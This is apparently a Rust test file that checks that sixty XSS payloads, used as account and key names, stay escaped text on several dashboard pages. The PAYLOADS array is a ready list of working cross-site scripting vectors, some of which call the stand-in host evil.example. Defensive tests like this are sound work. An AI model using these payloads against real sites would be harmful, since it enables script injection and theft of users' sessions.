//! Names that try to become markup.

use clawlink_core::connect::rename;
use clawlink_core::pairing::make_key;
use clawlink_core::policy::Policy;
use serde_json::json;

use crate::tests::support::{Browser, build};

/// Sixty names, each of at most sixty characters, the longest that a label may be.
const PAYLOADS: [&str; 60] = [
    "<script>alert(1)</script>",
    "<script src=//evil.example></script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"jAvAsCrIpT:alert(1)\">x</a>",
    "<form action=https://evil.example><input name=code>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext><script>alert(1)</script>",
    "<link rel=stylesheet href=//evil.example>",
    "<style>@import '//evil.example'</style>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=//evil.example>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "\" onmouseover=alert(1) x=\"",
    "' onmouseover=alert(1) x='",
    "\" autofocus onfocus=alert(1) \"",
    "` onmouseover=alert(1) `",
    "x onmouseover=alert(1)",
    "\"/><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u{202e}<script>alert(1)</script>",
    "\u{feff}<script>alert(1)</script>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}<%= 7*7 %>",
    "javascript:alert(1)//<svg/onload='/*\"/*`/*' /*</a>",
];

/// Connects an account of this name, labels it so, and makes a key of this name; returns the pages that show them.
async fn show(name: &str) -> Vec<(&'static str, String)> {
    let test = build();
    let (person, session) = test.sign_in("mara@example.com").await.unwrap();
    let id = test.connect(&person, "workbench", name).await.unwrap();
    rename(&test.house, &person, &id, name).await.unwrap();
    make_key(&test.house, &person, name, Policy::ReadOnly).await.unwrap();
    let mut browser = Browser::new(&test);
    browser.plant("__Host-session", session.expose());
    let mut pages = Vec::new();
    for path in [
        "/dashboard",
        "/dashboard/apps/workbench",
        "/dashboard/devices",
        "/dashboard/connections/{id}",
        "/dashboard/connections/{id}/disconnect",
    ] {
        let page = browser.get(&path.replace("{id}", id.as_str())).await;
        assert_eq!(page.status, 200, "{path}");
        pages.push((path, page.body));
    }
    let tested = test.connect(&person, "workbench", "mara").await.unwrap();
    test.http.answer(200, &json!({ "sub": name, "email": name, "name": name }).to_string());
    let csrf = browser.csrf().await;
    let page = browser.post(&format!("/dashboard/connections/{tested}/test"), &[("csrf", &csrf)]).await;
    assert_eq!(page.status, 200, "{}", page.body);
    pages.push(("the page of a test", page.body));
    pages
}

/// A page without its texts and values: its tags and the names of their attributes, in order.
fn skeleton(html: &str) -> String {
    let mut bare = String::new();
    let (mut inside, mut quote) = (false, None);
    for letter in html.chars() {
        match (inside, quote) {
            (false, _) => inside = letter == '<',
            (true, Some(open)) if letter == open => quote = None,
            (true, Some(_)) => {}
            (true, None) if letter == '"' || letter == '\'' => quote = Some(letter),
            (true, None) if letter == '>' => {
                inside = false;
                bare.push('\n');
            }
            (true, None) => bare.push(letter),
        }
    }
    bare
}

#[test]
fn a_skeleton_tells_markup_from_text() {
    assert_eq!(skeleton("<p title=\"a>b\">x &lt;b&gt; y</p>"), "p title=\n/p\n");
    assert_ne!(skeleton("<p>x</p>"), skeleton("<p><b>x</p>"));
    assert_ne!(skeleton("<p title=\"x\">"), skeleton("<p title=\"x\" onclick=\"y\">"));
}

#[tokio::test]
async fn sixty_names_stay_text_on_every_page() {
    let plain = show("Somebody").await;
    let shown = plain.iter().filter(|(_, body)| body.contains("Somebody")).count();
    assert_eq!(shown, plain.len(), "the name is on every one of these pages");
    for payload in PAYLOADS {
        assert!(payload.chars().count() <= 60, "{payload}");
        let pages = show(payload).await;
        for ((path, body), (_, plain)) in pages.iter().zip(&plain) {
            assert_eq!(skeleton(body), skeleton(plain), "{payload:?} on {path}");
            let raw = payload.contains(['<', '"', '\'', '&']) && body.contains(payload);
            assert!(!raw, "{payload:?} stands on {path} as it is");
        }
    }
}
